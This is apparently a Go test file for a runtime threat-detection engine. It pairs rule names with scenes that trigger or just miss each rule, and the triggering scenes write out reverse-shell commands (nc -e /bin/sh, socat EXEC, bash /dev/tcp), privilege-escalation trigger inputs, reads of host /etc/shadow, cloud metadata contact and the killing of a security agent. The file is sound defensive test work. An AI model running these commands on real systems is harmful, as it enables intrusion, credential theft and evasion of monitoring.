// SPDX-License-Identifier: Apache-2.0

package live

import (
	"net"
	"os"
	"strconv"
	"strings"
	"syscall"
)

var privilegeRows = []row{
	{"Set Setuid or Setgid bit",
		func(s *scene) { s.act("chmod", s.file("tool"), "4755") },
		func(s *scene) { s.act("chmod", s.file("tool"), "0755") }},
	{"Set Setuid or Setgid bit", // of a new file, by its first open
		func(s *scene) {
			s.run("/usr/bin/perl", "-e", "use Fcntl; umask 0; sysopen(F, $ARGV[0], O_CREAT|O_WRONLY, 04755)", s.path("tool"))
		},
		func(s *scene) {
			s.run("/usr/bin/perl", "-e", "use Fcntl; umask 0; sysopen(F, $ARGV[0], O_CREAT|O_WRONLY, 0755)", s.path("tool"))
		}},
	{"Capability given to a file",
		func(s *scene) { s.act("setxattr", s.file("tool"), "security.capability") },
		func(s *scene) { s.act("setxattr", s.file("tool"), "user.note") }},
	{"Sudo Potential Privilege Escalation",
		func(s *scene) { s.runAs1000(s.fake("sudoedit"), "-s", `AAAA\`) },
		func(s *scene) { s.runAs1000(s.fake("sudoedit"), "-s", "AAAA") }},
	{"Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
		func(s *scene) { s.runAs1000(s.fake("pkexec")) },
		func(s *scene) { s.runAs1000(s.fake("pkexec"), "id") }},
	{"Potential Local Privilege Escalation via Environment Variables Misuse",
		func(s *scene) { s.env = []string{"GLIBC_TUNABLES=glibc.malloc.check=1"}; s.run(s.fake("su")) },
		func(s *scene) { s.env = []string{"TUNABLES=1"}; s.run(s.fake("su")) }},
	{"Preload library from a temporary directory",
		func(s *scene) { s.env = []string{"LD_PRELOAD=/tmp/none.so"}; s.run(s.fake("app")) },
		func(s *scene) { s.env = []string{"LD_PRELOAD=/usr/lib/none.so"}; s.run(s.fake("app")) }},
	{"Detect release_agent File Container Escapes",
		func(s *scene) { s.actOn(s.container(), "open", "w", s.file("release_agent")) },
		func(s *scene) { s.act("open", "w", s.file("release_agent")) }},
	{"Kernel helper program changed", // opened, never written
		func(s *scene) { s.act("open", "w", "/proc/sys/kernel/core_pattern") },
		func(s *scene) { s.act("open", "r", "/proc/sys/kernel/core_pattern") }},
	{"Debugfs Launched in Privileged Container",
		func(s *scene) { s.on(s.container(), s.fake("debugfs"), "x") },
		func(s *scene) { s.run(s.fake("debugfs"), "x") }},
	{"Mount Launched in Privileged Container",
		func(s *scene) { s.on(s.container(), s.fake("mount"), "/dev/x", "/mnt") },
		func(s *scene) { s.on(s.container(), s.fake("mount"), "-l") }},
	{"Device or cgroup mounted in container",
		func(s *scene) { s.actOn(s.container(), "mount", "cgroup", s.path("m"), "cgroup") },
		func(s *scene) { s.actOn(s.container(), "mount", "tmpfs", s.path("m"), "tmpfs") }},
	{"Mount through new interface in container",
		func(s *scene) { s.actOn(s.container(), "move-mount", s.path("m")) },
		func(s *scene) { s.actOn(s.container(), "mount", "tmpfs", s.path("m"), "tmpfs") }},
	{"Privileged Container Device Access",
		func(s *scene) { s.actOn(deviceStage(s), "open", "r", "/dev/sda") },
		func(s *scene) { s.actOn(deviceStage(s), "open", "r", "/dev/other") }},
	{"Container Access to Host Sensitive Paths",
		func(s *scene) { s.actOn(hostInside(s), "open", "r", "/mnt/host/etc/shadow") },
		func(s *scene) { s.actOn(hostInside(s), "open", "r", "/mnt/host/proc/stat") }},
	{"Change thread namespace",
		func(s *scene) { s.act("setns") },
		func(s *scene) { s.act("open", "r", "/proc/self/ns/uts") }},
	{"Enter host namespaces from container",
		func(s *scene) { s.on(s.container(), s.fake("nsenter"), "-t", "1", "-m", "sh") },
		func(s *scene) { s.on(s.container(), s.fake("nsenter"), "-t", "1234", "-m", "sh") }},
	{"Change namespace privileges via unshare",
		func(s *scene) { s.on(s.container(), "/usr/bin/unshare", "-U", s.fake("x")) },
		func(s *scene) { s.on(s.container(), "/usr/bin/unshare", "-u", s.fake("x")) }},
	{"Change namespace privileges via unshare",
		func(s *scene) { s.actOn(s.container(), "clone-user") },
		func(s *scene) { s.act("clone-user") }},
	{"Container runtime socket opened in container",
		func(s *scene) { s.actOn(s.container(), "connect-unix", listenUnix(s, "docker.sock")) },
		func(s *scene) { s.actOn(s.container(), "connect-unix", listenUnix(s, "app.sock")) }},
}

// hostInside is a container that has the files of the host below /mnt/host.
func hostInside(s *scene) stage {
	st := s.container()
	st.Tmpfs, st.Files = []string{"/mnt"}, []string{"/mnt/host/etc/shadow", "/mnt/host/proc/stat"}
	return st
}

// runAs1000 runs a program in a login session of an ordinary user.
func (s *scene) runAs1000(argv ...string) {
	s.t.Helper()
	s.run(build.actor, append([]string{"login-as", "1000"}, argv...)...)
}

func deviceStage(s *scene) stage {
	st := s.container()
	st.Tmpfs, st.Files = []string{"/dev"}, []string{"/dev/sda", "/dev/other"}
	return st
}

func listenUnix(s *scene, name string) string {
	path := s.path(name)
	l, err := net.Listen("unix", path)
	if err != nil {
		s.t.Fatal(err)
	}
	s.t.Cleanup(func() { l.Close() })
	return path
}

var kernelRows = []row{
	{"Linux Kernel Module Injection Detected",
		func(s *scene) { s.actOn(s.container(), "init-module") },
		func(s *scene) { s.act("init-module") }},
	{"Kernel module loaded by unexpected program",
		func(s *scene) { s.act("init-module") },
		func(s *scene) { s.actOn(s.container(), "init-module") }},
	{"Kernel replacement attempted",
		func(s *scene) { s.act("kexec") },
		func(s *scene) { s.act("open", "r", "/proc/version") }},
	{"Kernel tracing changed", writeIn("/sys/kernel", "/sys/kernel/tracing/tracing_on"), writeIn("/sys/kernel", "/sys/kernel/other")},
	{"PTRACE attached to process",
		func(s *scene) { s.act("ptrace-seize") },
		func(s *scene) { s.act("ptrace-traceme") }},
	{"PTRACE anti-debug attempt",
		func(s *scene) { s.act("ptrace-traceme") },
		func(s *scene) { s.act("ptrace-seize") }},
	{"Memory of another process written",
		func(s *scene) { s.act("vm-write") },
		func(s *scene) { s.act("vm-read") }},
	{"Process memory opened for writing through proc",
		func(s *scene) { s.act("open", "rw", "/proc/self/mem") },
		func(s *scene) { s.act("open", "r", "/proc/self/mem") }},
	{"Descriptor taken from another process",
		func(s *scene) { s.act("getfd") },
		func(s *scene) { s.act("connect", "127.0.0.1:0") }},
	{"Kernel started a program from an unusual place",
		func(s *scene) { s.actOn(stage{}, "release-agent", s.dir, agentScript(s), s.path("ran")) },
		func(s *scene) { s.run("/bin/sh", agentScript(s)) }},
	{"io_uring set up by unexpected program",
		func(s *scene) { s.act("io-uring", "4") },
		func(s *scene) { s.act("io-uring", "0") }},
	{"Unprivileged Delegation of Page Faults Handling to a Userspace Process",
		func(s *scene) { s.uid = 65534; s.act("userfaultfd") },
		func(s *scene) { s.act("userfaultfd") }},
	{"BPF Program Not Profiled",
		func(s *scene) { s.act("bpf-prog") },
		func(s *scene) { s.act("bpf-map") }},
	{"Signal sent to security agent",
		func(s *scene) { killAgent(s, syscall.SIGKILL) },
		func(s *scene) { killAgent(s, syscall.SIGTERM) }},
}

// agentScript makes a script that tells that it ran.
func agentScript(s *scene) string {
	script := s.path("agent")
	if err := os.WriteFile(script, []byte("#!/bin/sh\n: > "+s.path("ran")+"\n"), 0o755); err != nil {
		s.t.Fatal(err)
	}
	return script
}

// needLoader returns the path of the dynamic loader.
func needLoader(s *scene) string {
	s.t.Helper()
	for _, path := range []string{"/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"} {
		if _, err := os.Stat(path); err == nil {
			return path
		}
	}
	s.t.Fatal("no dynamic loader is known here")
	return ""
}

// killAgent sends a signal to a process that bears the name of an agent, once it runs: a start returns
// before the program has its name.
func killAgent(s *scene, sig syscall.Signal) {
	path := s.actor("auditd")
	agent := s.command(path, []string{path, "hold"})
	in, err := agent.StdinPipe()
	if err != nil {
		s.t.Fatal(err)
	}
	out, err := agent.StdoutPipe()
	if err != nil {
		s.t.Fatal(err)
	}
	if err := agent.Start(); err != nil {
		s.t.Fatal(err)
	}
	if _, err := out.Read(make([]byte, 8)); err != nil {
		s.t.Errorf("the agent does not run: %v", err)
	}
	s.act("kill", strconv.Itoa(int(sig)), strconv.Itoa(agent.Process.Pid))
	in.Close() // should it live on
	_ = agent.Wait()
}

const (
	publicAddr   = "203.0.113.7"
	metadataAddr = "169.254.169.254"
)

// apart is a network of its own in which an address lies.
func apart(st stage, addr string) stage {
	st.Net, st.Addrs = true, []string{addr}
	return st
}

var networkRows = []row{
	{"Netcat Remote Code Execution in Container",
		func(s *scene) { s.on(s.container(), s.fake("nc"), "-nve", "/bin/sh", "127.0.0.1", "1") },
		func(s *scene) { s.on(s.container(), s.fake("nc"), "-zv", "cache.example", "80") }},
	{"Netcat/Socat Remote Code Execution on Host",
		func(s *scene) { s.run(s.fake("socat"), "TCP:127.0.0.1:1", "EXEC:/bin/sh") },
		func(s *scene) { s.run(s.fake("socat"), "TCP:127.0.0.1:1", "STDOUT") }},
	{"Netcat/Socat Remote Code Execution on Host",
		func(s *scene) { s.run(s.fake("nc"), "-e/bin/sh", "127.0.0.1", "1") },
		func(s *scene) { s.on(s.container(), s.fake("nc"), "-e", "/bin/sh", "127.0.0.1", "1") }},
	{"Redirect STDOUT/STDIN to Network Connection in Container",
		func(s *scene) { s.actOn(s.container(), "connect-dup", "0") },
		func(s *scene) { s.actOn(s.container(), "connect-dup", "10") }},
	{"Redirect STDOUT/STDIN to Network Connection in Container", // by fcntl
		func(s *scene) { s.actOn(s.container(), "connect-fcntl", "0") },
		func(s *scene) { s.actOn(s.container(), "connect-fcntl", "10") }},
	{"Shell Standard Streams on Network Connection", // inherited
		func(s *scene) { s.act("connect-exec", "/bin/sh", "/dev/null") },
		func(s *scene) { s.act("spawn", "/bin/sh", "/dev/null") }},
	{"Shell Standard Streams on Network Connection", // copied by the shell itself
		func(s *scene) {
			s.run("/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/"+listenTCP(s)+"; exec <&3 # "+s.mark)
		},
		func(s *scene) { s.run("/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/"+listenTCP(s)+" # "+s.mark) }},
	{"Shell opens network connection by itself",
		func(s *scene) { s.run("/bin/sh", "-c", "true # /dev/tcp/192.0.2.1/80 "+s.mark) },
		func(s *scene) { s.run("/bin/sh", "-c", "true # /dev/tcp "+s.mark) }},
	{"Packet socket created in container",
		func(s *scene) { s.actOn(s.container(), "socket", "17") },
		func(s *scene) { s.actOn(s.container(), "socket", "2") }},
	{"Disallowed SSH Connection Non Standard Port",
		func(s *scene) { s.run(s.actor("ssh"), "connect", "127.0.0.1:0") },
		func(s *scene) { s.on(apart(stage{}, publicAddr), s.actor("ssh"), "connect", publicAddr+":22") }},
	{"Contact K8S API Server From Container",
		func(s *scene) { s.inCluster(); s.actOn(apart(s.container(), publicAddr), "connect", publicAddr+":443") },
		func(s *scene) { s.inCluster(); s.actOn(apart(s.container(), publicAddr), "connect", publicAddr+":444") }},
	{"Contact cloud metadata service from container",
		func(s *scene) { s.actOn(apart(s.container(), metadataAddr), "connect", metadataAddr+":80") },
		func(s *scene) { s.actOn(apart(s.container(), "169.254.1.1"), "connect", "169.254.1.1:80") }},
	{"Contact cloud metadata service by hand",
		func(s *scene) {
			s.tty = true
			s.on(apart(stage{}, metadataAddr), s.actor("curl"), "connect", metadataAddr+":80")
		},
		func(s *scene) {
			s.tty = true
			s.on(apart(stage{}, metadataAddr), s.actor("agent"), "connect", metadataAddr+":80")
		}},
	{"Detect outbound connections to common miner pool ports",
		func(s *scene) { s.actOn(apart(stage{}, publicAddr), "connect", publicAddr+":3333") },
		func(s *scene) { s.actOn(apart(stage{}, publicAddr), "connect", "127.0.0.1:3333") }},
	{"Detect crypto miners using the Stratum protocol",
		func(s *scene) { s.run(s.fake("worker"), "-o", "stratum+tcp://pool.example:3333") },
		func(s *scene) { s.run(s.fake("worker"), "-o", "http://pool.example:3333") }},
	{"Known Cryptominer Process Executed",
		func(s *scene) { s.run(s.fake("minerd")) },
		func(s *scene) { s.run(s.fake("miner-docs")) }},
	{"Launch Suspicious Network Tool in Container",
		func(s *scene) { s.on(s.container(), s.fake("nmap"), "10.0.0.0/8") },
		func(s *scene) { s.run(s.fake("nmap"), "10.0.0.0/8") }},
	{"Launch Suspicious Network Tool on Host",
		func(s *scene) { s.run(s.fake("masscan"), "10.0.0.0/8") },
		func(s *scene) { s.run(s.fake("tcpdump"), "-i", "lo") }},
	{"Launch Ingress Remote File Copy Tools in Container",
		func(s *scene) { s.on(s.oldContainer(), s.fake("wget"), "http://x.example/") },
		func(s *scene) { s.on(s.oldContainer(), s.fake("curl"), "http://x.example/") }},
	{"Unexpected outbound connection destination",
		func(s *scene) { s.actOn(apart(stage{}, publicAddr), "connect", publicAddr+":8080") },
		func(s *scene) { s.act("connect", "127.0.0.1:0") }},
}

// inCluster gives the next program the environment of a pod.
func (s *scene) inCluster() {
	s.env = append(s.env, "KUBERNETES_SERVICE_HOST="+publicAddr, "KUBERNETES_SERVICE_PORT=443")
}

func listenTCP(s *scene) (port string) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		s.t.Fatal(err)
	}
	s.t.Cleanup(func() { l.Close() })
	return strconv.Itoa(l.Addr().(*net.TCPAddr).Port)
}

var shellRows = []row{
	{"Fileless execution via memfd_create",
		func(s *scene) { s.act("memfd-exec", "/bin/true") },
		func(s *scene) { s.act("spawn", "/bin/true") }},
	{"Execution from /dev/shm",
		func(s *scene) { s.actOn(over("/dev", "/dev/shm/x"), "copy-exec", "/bin/true", "/dev/shm/"+s.mark) },
		func(s *scene) { s.run(s.fake("dev/shm/x")) }},
	{"Program posing as a kernel thread",
		func(s *scene) { s.run(s.fake("kworker")) },
		func(s *scene) { s.run(s.fake("worker")) }},
	{"Run shell untrusted",
		func(s *scene) { s.run(s.actor("nginx"), "spawn", "/bin/sh", "-c", "true "+s.mark) },
		func(s *scene) { s.run(s.actor("myapp"), "spawn", "/bin/sh", "-c", "true "+s.mark) }},
	{"DB program spawned process",
		func(s *scene) { s.run(s.actor("mysqld"), "spawn", s.fake("whoami")) },
		func(s *scene) { s.run(s.actor("myapp"), "spawn", s.fake("whoami")) }},
	{"System user interactive",
		func(s *scene) { s.tty, s.uid = true, 1; s.run("/bin/sh", "/dev/null", s.mark) },
		func(s *scene) { s.uid = 1; s.run("/bin/sh", "/dev/null", s.mark) }},
	{"Terminal shell in container",
		func(s *scene) { s.tty = true; s.on(s.container(), "/bin/sh", "/dev/null", s.mark) },
		func(s *scene) { s.on(s.container(), "/bin/sh", "/dev/null", s.mark) }},
	{"Launch Package Management Process in Container",
		func(s *scene) { s.on(s.container(), s.fake("apt-get"), "install", "nmap") },
		func(s *scene) { s.run(s.fake("apt-get"), "install", "nmap") }},
	{"Kubernetes Client Tool Launched in Container",
		func(s *scene) { s.on(s.container(), s.fake("kubectl"), "get", "secrets") },
		func(s *scene) { s.run(s.fake("kubectl"), "get", "secrets") }},
	{"Decoding Payload in Container",
		func(s *scene) { s.on(s.oldContainer(), s.fake("base64"), "-d", "x") },
		func(s *scene) { s.on(s.oldContainer(), s.fake("base64"), "x") }},
	{"Basic Interactive Reconnaissance",
		func(s *scene) { s.tty = true; s.on(s.container(), s.fake("whoami")) },
		func(s *scene) { s.on(s.container(), s.fake("whoami")) }},
	{"Container Drift Detected (chmod)",
		func(s *scene) { s.actOn(s.container(), "chmod", s.file("tool"), "0755") },
		func(s *scene) { s.actOn(s.container(), "chmod", s.file("tool"), "0644") }},
	{"Container Drift Detected (open+create)",
		func(s *scene) { s.actOn(s.container(), "open", "wcx", s.path("tool")) },
		func(s *scene) { s.actOn(s.container(), "open", "wc", s.path("tool")) }},
	{"Program started from a deleted file",
		func(s *scene) { s.act("deleted-exec", "/bin/true", s.path("x")) },
		func(s *scene) { s.act("copy-exec", "/bin/true", s.path("x")) }},
	{"Program started through the dynamic loader",
		func(s *scene) { s.run(needLoader(s), s.fake("x")) },
		func(s *scene) { s.run(needLoader(s), "--verify", s.fake("x")) }},
	{"Arguments padded with blanks",
		func(s *scene) { s.run(s.fake("x"), strings.Repeat(" ", 5000), "y") },
		func(s *scene) { s.run(s.fake("x"), strings.Repeat(" ", 3000), "y") }},
	{"Drop and execute new binary in container",
		func(s *scene) { s.actOn(s.container(), "overlay-exec", "upper", s.path("o")) },
		func(s *scene) { s.actOn(s.container(), "overlay-exec", "lower", s.path("o")) }},
}
